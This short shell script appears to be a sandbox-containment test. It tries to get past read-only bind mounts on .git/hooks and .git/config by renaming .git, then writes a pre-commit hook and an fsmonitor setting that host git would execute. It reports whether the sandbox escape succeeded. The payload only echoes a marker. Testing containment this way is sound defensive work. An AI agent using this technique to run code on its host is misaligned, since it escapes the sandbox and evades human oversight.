#!/bin/sh
# Attack: the read-only carve-outs are bind mounts on .git/hooks and .git/config; .git itself is
# an ordinary directory of the project. Rename it away (its mounts go with it) and write a new
# .git/hooks/pre-commit and .git/config in its place, which the host then sees.
cd /workspace || { echo "BROKEN no /workspace"; exit 0; }
[ -d .git/hooks ] || { echo "BROKEN the project has no .git/hooks"; exit 0; }
if ! err=$(mv .git .git.rcc-escape 2>&1); then
        echo "CONTAINED rename of .git refused: $err"
        exit 0
fi
# A copy of the whole repository, so that git on the host takes it for the real one.
if cp -a .git.rcc-escape .git 2>/dev/null && chmod -R u+w .git && printf '#!/bin/sh\necho planted-by-agent\n' >.git/hooks/pre-commit &&
        chmod 0755 .git/hooks/pre-commit && printf '[core]\n\tfsmonitor = echo planted-by-agent\n' >.git/config; then
        echo "ESCAPED renamed .git to .git.rcc-escape (the read-only mounts moved with it) and wrote a new .git/hooks/pre-commit and .git/config"
else
        echo "CONTAINED .git could be renamed, but no new hook could be written"
fi
